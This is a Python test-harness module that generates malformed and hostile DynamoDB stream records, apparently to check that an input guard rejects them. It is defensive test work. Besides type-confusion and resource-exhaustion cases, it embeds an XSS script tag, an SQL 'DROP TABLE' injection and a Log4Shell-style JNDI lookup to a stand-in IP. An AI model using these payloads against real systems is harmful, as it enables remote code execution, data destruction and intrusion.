"""Changes of a table: no JSON arrives, but values that say their type."""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping
from functools import partial
from typing import Any

from {{ project.package }}.guard.sources.dynamodb_stream import Change, as_json

from ..harness import Attack, Event, Model, Place, leaves, with_value
from ..streams import ENVELOPE, PAYLOAD, SIZE, Stream, nested, vouched

#: An attribute that no model declares.
OTHER = "\N{REPLACEMENT CHARACTER} other"


class DynamodbStream(Stream):
    """The payload is what was written; of a `Change`, what became of the item."""

    def batch(self, sample: Event, *hostile: object) -> Event:
        good = sample["Records"][0]
        return {"Records": [_with(good, {"SequenceNumber": "1"}), *hostile, _with(good, {"SequenceNumber": "9"})]}

    def payload(self, sample: Event) -> Event:
        found: Event = json.loads(as_json(_image(sample)))
        return found

    def stage(self, place: Place) -> str:
        return "payload"

    def values(self, model: Model, sample: Event) -> Mapping[Place, Any]:
        above = ("new",) if issubclass(model, Change) else ()
        return {(*above, *place): value for place, value in leaves(self.payload(sample))}

    def put(self, model: Model, sample: Event, place: Place, value: Any) -> Event | None:
        """What DynamoDB vouches for is planted into the item, which may not speak for it."""
        inside = place[1:] if issubclass(model, Change) and place[0] == "new" else place
        if issubclass(model, Change) and (inside == place or not inside):
            return None
        return self._written(sample, with_value(self.payload(sample), inside, value))

    def drop(self, model: Model, sample: Event, place: Place) -> Event | None:
        if place[0] not in self.payload(sample) or vouched(model, place):
            return None
        return self._written(sample, {key: v for key, v in self.payload(sample).items() if key != place[0]})

    def body(self, sample: Event, text: str) -> Event:
        """What `text` would be as an item; what is no JSON object is put beside a good one's attributes."""
        try:
            value = json.loads(text, object_pairs_hook=_unique, parse_constant=_refused, parse_float=_Digits)
        except RecursionError:
            return self._with(sample, {"L": [_deep(1_000)]})
        except ValueError:
            value = None
        if value is None or len(json.dumps(value)) < len(text) // 2:
            return self._with(sample, typed(text))
        return self._written(sample, value) if isinstance(value, dict) else self._with(sample, typed(value))

    def own(self, model: Model, sample: Event) -> Iterator[Attack]:
        for name, why, stages, value in (
            ("number-long", "overflows a decimal", PAYLOAD, {"N": "1" * 131}),
            ("number-digits", "more digits than DynamoDB has", PAYLOAD, {"N": "1." + "1" * 40}),
            ("number-endless", "takes minutes to convert", PAYLOAD, {"N": "9" * 1_000_000}),
            ("number-large", "overflows", SIZE, {"N": "1E+126"}),
            ("number-larger", "fills memory where it is written out", SIZE, {"N": "1E+999"}),
            ("number-exponent", "fills memory where it is written out", PAYLOAD, {"N": "1E+999999999"}),
            ("number-small", "underflows", SIZE, {"N": "1E-999"}),
            ("number-nan", "a number that equals nothing", PAYLOAD, {"N": "NaN"}),
            ("number-infinite", "a number without end", PAYLOAD, {"N": "Infinity"}),
            ("number-text", "no number", PAYLOAD, {"N": '1,"is_admin":true'}),
            ("number-space", "a number with more behind it", PAYLOAD, {"N": "1\n"}),
            ("number-underscore", "what Python takes for a number", PAYLOAD, {"N": "1_000"}),
            ("number-digits-other", "digits that only look like them", PAYLOAD, {"N": "\u0661\u0662"}),
            ("number-typed", "a number where its text is meant", ENVELOPE, {"N": 1}),
            ("text-typed", "a list for a text", ENVELOPE, {"S": ["a"]}),
            ("text-null", "nothing for a text", ENVELOPE, {"S": None}),
            ("bool-text", "text for a truth", ENVELOPE, {"BOOL": "false"}),
            ("null-false", "nothing that is something", ENVELOPE, {"NULL": False}),
            ("set-text", "text for a set", ENVELOPE, {"SS": "a"}),
            ("set-mixed", "a set of two types", ENVELOPE, {"NS": ["1", {"S": "a"}]}),
            ("set-numbers", "a set with a number that overflows", PAYLOAD, {"NS": ["1", "1" * 131]}),
            ("list-raw", "JSON where a typed value is meant", ENVELOPE, {"L": ['1],"is_admin":true,"a":[1']}),
            ("map-raw", "JSON where a typed value is meant", ENVELOPE, {"M": {"a": '1},"is_admin":true,"a":{'}}),
            ("map-list", "a list for an object", ENVELOPE, {"M": []}),
            ("no-type", "a value without a type", ENVELOPE, {}),
            ("two-types", "a value of two types", ENVELOPE, {"S": "a", "N": "1"}),
            ("unknown-type", "a type that nobody knows", ENVELOPE, {"X": "a"}),
            ("no-value", "text where a typed value is meant", ENVELOPE, "a"),
            ("deep", "exhausts the stack", SIZE, _deep(900)),
            ("wide", "exhausts memory", SIZE, {"L": [{"NULL": True}] * 50_000}),
            ("large", "exhausts memory", SIZE, {"B": "A" * 3_000_000}),
            ("class", "means something to Python", PAYLOAD, {"M": {"__class__": {"M": {"__init__": {"M": {}}}}}}),
        ):
            yield Attack(f"value-{name}", why, stages, partial(self._with, sample, value))
        key = next(iter(_image(sample)))
        for name, why, injected in (
            ("script", "runs in the browser of who looks at the item", "<script>alert(1)</script>"),
            ("sql", "runs in the database that the item is copied to", "'; DROP TABLE orders --"),
            ("expression", "is looked up by who logs the item", "${jndi:ldap://203.0.113.9/a}"),
        ):
            stored = {OTHER: {"S": injected}, key: _image(sample)[key]}
            yield Attack(f"stored-{name}", why, PAYLOAD, partial(self._written, sample, json.loads(as_json(stored))))
        record = sample["Records"][0]
        for name, why, stages, change in (
            ("source", "another service's record", ENVELOPE, {"eventSource": "aws:kinesis"}),
            ("event-name", "a change of no kind", ENVELOPE, {"eventName": "DROP"}),
            ("event-case", "almost the name of a change", ENVELOPE, {"eventName": "insert"}),
            ("no-event-name", "a change of no kind", ENVELOPE, {"eventName": None}),
            ("stream-forged", "a stream's name that would forge a line", ENVELOPE, {"eventSourceARN": "arn:a\nb"}),
            ("user-text", "text for a user", ENVELOPE, {"userIdentity": "dynamodb.amazonaws.com"}),
            ("images-list", "a list for a change", ENVELOPE, {"dynamodb": []}),
            ("many", "exhausts memory", SIZE, {"more": [{}] * 50_000}),
            ("nested", "exhausts the stack", SIZE, {"more": nested(1_000)}),
            ("not-json", "what no stream delivers", SIZE, {"more": float("nan")}),
        ):
            yield Attack(f"dynamodb-{name}", why, stages, partial(self.batch, sample, {**record, **change}))
        for name, why, inner in (
            ("number-forged", "a sequence number that would forge a line", {"SequenceNumber": "1\n{}"}),
            ("no-number", "a record that cannot be named", {"SequenceNumber": None}),
            ("no-keys", "an item without a key", {"Keys": None}),
            ("image-list", "a list for an item", {"NewImage": [{"id": {"S": "a"}}]}),
            ("changed-far", "a time that no calendar has", {"ApproximateCreationDateTime": 10**18}),
        ):
            yield Attack(f"dynamodb-{name}", why, ENVELOPE, partial(self._changed, sample, inner))
        for name, why, stages, event in (
            ("no-event", "not an event at all", ENVELOPE, lambda: ["not", "an", "event"]),
            ("empty", "an event without anything", ENVELOPE, dict),
            ("records-text", "records as text", ENVELOPE, lambda: {"Records": "many"}),
            ("records-many", "more records than a batch has", SIZE, lambda: {"Records": [{}] * 10_001}),
        ):
            yield Attack(f"dynamodb-{name}", why, stages, event, whole=True)

    def _changed(self, sample: Event, change: Event) -> Event:
        return self.batch(sample, _with(sample["Records"][0], {"SequenceNumber": "5", **change}))

    def _written(self, sample: Event, item: Event) -> Event:
        """A batch whose hostile change wrote `item`."""
        return self._changed(sample, {_shown(sample): typed(item)["M"]})

    def _with(self, sample: Event, value: object) -> Event:
        """A batch whose hostile change wrote a good item, and one attribute more."""
        return self._changed(sample, {_shown(sample): {**_image(sample), OTHER: value}})


CARRIER = DynamodbStream()


class _Digits(float):
    """A number of JSON as it was written."""

    def __new__(cls, digits: str) -> _Digits:
        number = super().__new__(cls, digits)
        number.digits = digits
        return number

    digits: str


def typed(value: Any) -> Event:
    """`value` as DynamoDB writes it."""
    if value is None:
        return {"NULL": True}
    if isinstance(value, bool):
        return {"BOOL": value}
    if isinstance(value, int | float):
        return {"N": value.digits if isinstance(value, _Digits) else str(value)}
    if isinstance(value, str):
        return {"S": value}
    try:
        if isinstance(value, list):
            return {"L": [typed(inner) for inner in value]}
        return {"M": {key: typed(inner) for key, inner in value.items()}}
    except RecursionError:
        return _deep(1_000)


def _with(record: Event, change: Event) -> Event:
    return {**record, "dynamodb": {**record["dynamodb"], **change}}


def _shown(sample: Event) -> str:
    """The part of the record that the payload is in; it depends on the stream's view."""
    return "NewImage" if "NewImage" in sample["Records"][0]["dynamodb"] else "Keys"


def _image(sample: Event) -> Event:
    image: Event = sample["Records"][0]["dynamodb"][_shown(sample)]
    return image


def _deep(depth: int) -> Event:
    value: Event = {"S": "a"}
    for _ in range(depth):
        value = {"M": {"a": value}}
    return value


def _unique(pairs: list[tuple[str, Any]]) -> Event:
    if len({key for key, _ in pairs}) < len(pairs):
        raise ValueError
    return dict(pairs)


def _refused(_constant: str) -> float:
    raise ValueError
